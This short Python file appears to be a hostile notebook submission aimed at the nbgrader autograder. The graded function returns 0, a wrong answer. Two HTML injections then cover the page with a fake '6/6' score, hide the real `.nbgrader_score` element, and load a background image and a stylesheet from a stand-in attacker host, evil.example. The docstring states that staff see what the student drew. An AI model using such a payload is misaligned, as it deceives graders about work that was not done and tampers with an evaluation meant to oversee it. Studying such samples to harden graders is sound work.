"""A style lays a box over the whole page: what staff see is what the student drew."""
from IPython.display import HTML, display

def target(x):
    return 0

display(HTML("<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(//evil.example)'>6/6</div>"))
display(HTML("<style>.nbgrader_score{display:none}</style><link rel=stylesheet href=//evil.example/x.css>"))
